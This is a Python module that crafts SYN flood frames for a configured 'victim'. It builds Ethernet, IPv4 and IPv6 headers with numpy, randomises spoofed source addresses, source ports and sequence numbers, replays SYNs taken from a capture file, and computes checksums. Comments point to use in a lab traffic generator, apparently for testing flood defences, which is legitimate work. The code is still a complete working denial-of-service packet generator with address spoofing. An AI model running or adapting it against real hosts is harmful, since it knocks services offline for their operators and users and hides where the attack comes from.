"""Frames of a SYN flood: a template, and sources, ports, numbers and checksums by numpy; or those of a capture."""

import ipaddress
import struct
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Final, Literal

import numpy as np
import numpy.typing as npt

Sources = Literal["one", "hundred", "spoofed", "repeating", "capture"]
Bytes = npt.NDArray[np.uint8]

_ETHERNET: Final = 14
_SYN: Final = 0x02
_MSS: Final = bytes([2, 4, 1460 >> 8, 1460 & 255])
_REPEATED_AFTER_S: Final = 1.0
_TRANSLATED: Final = bytes.fromhex("0064ff9b") + bytes(8)
"""RFC 6052: where IPv4 addresses of a capture lie in IPv6."""


@dataclass(frozen=True, kw_only=True)
class FloodPlan:
    """What to send: `rate` SYNs a second for `seconds`."""

    sources: Sources
    rate: int
    seconds: float
    victim: str
    victim_mac: str
    port: int
    attacker_mac: str
    prefix: str
    """Where the sources of the unspoofed floods lie."""
    seed: int = 1
    capture: str = ""
    """Capture file of IPv4 SYNs: theirs are sources, ports, numbers and flags, over and over."""
    as_recorded: bool = False
    """Once, at the times of the capture; `rate` and `seconds` do not count."""


@dataclass(frozen=True)
class FloodFrames:
    """Frames in the order of sending, one a row, and when each is due, seconds from the first."""

    frames: Bytes
    due: npt.NDArray[np.float64]


def make_flood(plan: FloodPlan) -> FloodFrames:
    """The frames of a plan and their times; raises `OSError` where its capture cannot be read."""
    if plan.sources != "capture":
        count = int(plan.rate * plan.seconds)
        return FloodFrames(_finish(_made_up(plan, count), plan), np.arange(count) / plan.rate)
    recorded, times = read_syns(Path(plan.capture))
    rows = np.arange(len(recorded) if plan.as_recorded else int(plan.rate * plan.seconds))
    frames = _finish(_rewritten(plan, recorded)[rows % len(recorded)], plan)
    return FloodFrames(frames, times if plan.as_recorded else rows / plan.rate)


def flood_sources(plan: FloodPlan) -> list[str]:
    """The addresses that an unspoofed flood comes from; nothing for others."""
    number = {"one": 1, "hundred": 100}.get(plan.sources, 0)
    first = ipaddress.ip_network(plan.prefix)[10]
    return [str(first + each) for each in range(number)]


def read_syns(path: Path) -> tuple[Bytes, npt.NDArray[np.float64]]:
    """Ethernet, IPv4 without options and TCP headers of a capture's SYNs, a row each; and their times, s from 0."""
    from sdnator.capture.captures import Capture

    rows, times = [], []
    with Capture(path) as capture:
        for frame in capture:
            data = frame.data
            if data[12:15] == b"\x08\x00\x45" and data[23] == 6 and data[47] & 0x17 == _SYN:
                rows.append(data[: _ETHERNET + 40])
                times.append(frame.time_ns / 1e9)
    when = np.array(times)
    return np.frombuffer(b"".join(rows), np.uint8).reshape(len(rows), -1), when - when[:1]


def _made_up(plan: FloodPlan, count: int) -> Bytes:
    frames = np.tile(np.frombuffer(_template(plan), np.uint8), (count, 1))
    random = np.random.default_rng(plan.seed)
    place, width, tcp = _places(plan)
    frames[:, place : place + width] = _SOURCES[plan.sources](plan, random, count)
    ports = random.integers(1024, 65_536, count, dtype=np.uint16)
    frames[:, tcp : tcp + 2] = ports.astype(">u2").view(np.uint8).reshape(-1, 2)
    frames[:, tcp + 4 : tcp + 8] = random.integers(0, 256, (count, 4), dtype=np.uint8)
    if plan.sources == "repeating":
        frames = _repeat(frames, int(plan.rate * _REPEATED_AFTER_S))
    return frames


def _rewritten(plan: FloodPlan, recorded: Bytes) -> Bytes:
    """The recorded SYNs towards our victim: source, source port, number, flags and window are theirs."""
    frames = np.tile(np.frombuffer(_template(plan), np.uint8), (len(recorded), 1))
    place, width, tcp = _places(plan)
    if width == 16:
        frames[:, place : place + 12] = np.frombuffer(_TRANSLATED, np.uint8)
    frames[:, place + width - 4 : place + width] = recorded[:, 26:30]
    frames[:, tcp : tcp + 2] = recorded[:, 34:36]
    frames[:, tcp + 4 : tcp + 8] = recorded[:, 38:42]
    frames[:, tcp + 13 : tcp + 16] = recorded[:, 47:50]
    return frames


def _places(plan: FloodPlan) -> tuple[int, int, int]:
    """Where the source address begins, its width, and where TCP begins."""
    if ipaddress.ip_address(plan.victim).version == 4:
        return _ETHERNET + 12, 4, _ETHERNET + 20
    return _ETHERNET + 8, 16, _ETHERNET + 40


def _template(plan: FloodPlan) -> bytes:
    victim = ipaddress.ip_address(plan.victim)
    segment = struct.pack("!HHLLBBHHH", 1024, plan.port, 0, 0, 6 << 4, _SYN, 8192, 0, 0) + _MSS
    if victim.version == 4:
        header = struct.pack("!BBHHHBBHLL", 0x45, 0, 20 + len(segment), 1, 0, 64, 6, 0, 0, int(victim))
    else:
        header = struct.pack("!LHBB16x16s", 6 << 28, len(segment), 6, 64, victim.packed)
    macs = f"{plan.victim_mac}{plan.attacker_mac}".replace(":", "")
    ether_type = b"\x08\x00" if victim.version == 4 else b"\x86\xdd"
    return bytes.fromhex(macs) + ether_type + header + segment


def _finish(frames: Bytes, plan: FloodPlan) -> Bytes:
    """Fill in the checksums."""
    place, width, tcp = _places(plan)
    if width == 4:
        _checksum(frames, _ETHERNET, _ETHERNET + 20, _ETHERNET + 10, 0)
    _checksum(frames, place, frames.shape[1], tcp + 16, 6 + frames.shape[1] - tcp)
    return frames


def _fixed(plan: FloodPlan, _: np.random.Generator, count: int) -> Bytes:
    sources = flood_sources(plan)
    addresses = np.array([list(ipaddress.ip_address(each).packed) for each in sources], np.uint8)
    return addresses[np.arange(count) % len(sources)]


def _spoofed(plan: FloodPlan, random: np.random.Generator, count: int) -> Bytes:
    if ipaddress.ip_address(plan.victim).version == 6:
        addresses = random.integers(0, 256, (count, 16), dtype=np.uint8)
        addresses[:, 0] = 0x20  # global unicast
        return addresses
    addresses = random.integers(0, 256, (count, 4), dtype=np.uint8)
    addresses[:, 0] = random.integers(11, 127, count, dtype=np.uint8)  # neither the lab's nor loopback
    return addresses


_SOURCES: Final[dict[str, Callable[[FloodPlan, np.random.Generator, int], Bytes]]] = {
    "one": _fixed,
    "hundred": _fixed,
    "spoofed": _spoofed,
    "repeating": _spoofed,
}


def _repeat(frames: Bytes, distance: int) -> Bytes:
    """Every second frame is one that was sent `distance` frames before, once more."""
    distance += 1 - distance % 2
    places = np.arange(distance, len(frames))
    places = places[places % 2 == 1]
    repeated = frames.copy()
    repeated[places] = frames[places - distance]
    return repeated


def _checksum(frames: Bytes, begin: int, end: int, place: int, extra: int) -> None:
    """RFC 1071 over [begin, end) of every row, written at `place`; `extra` is added (pseudo header)."""
    frames[:, place : place + 2] = 0
    words = np.ascontiguousarray(frames[:, begin:end]).view(">u2").astype(np.uint32)
    total = words.sum(axis=1, dtype=np.uint32) + np.uint32(extra)
    total = (total & 0xFFFF) + (total >> 16)
    total = (total & 0xFFFF) + (total >> 16)
    frames[:, place : place + 2] = (~total).astype(np.uint16).astype(">u2").view(np.uint8).reshape(-1, 2)
